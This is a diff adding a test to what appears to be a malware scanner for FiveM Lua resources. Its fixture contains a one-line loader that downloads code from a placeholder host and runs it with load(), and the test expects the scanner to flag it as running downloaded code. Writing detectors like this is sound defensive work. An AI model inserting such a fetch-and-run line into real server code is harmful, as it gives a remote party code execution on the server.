@@ -45,6 +45,15 @@ test.each([
   )
 })
 
+test('one line has the most specific of the findings that say the same of it', () => {
+  const { findings } = scan({
+    'fxmanifest.lua': manifest,
+    'server.lua': `function Run(code) load(code)() end\nPerformHttpRequest('https://a.example', function(_, body) Run(body) end)`,
+  })
+
+  expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual(['runs-downloaded-code 1'])
+})
+
 test('a function that a file of Lua returns', () => {
   const { findings } = scan({
     'fxmanifest.lua': `${manifest}file 'lib/tools.lua'`,
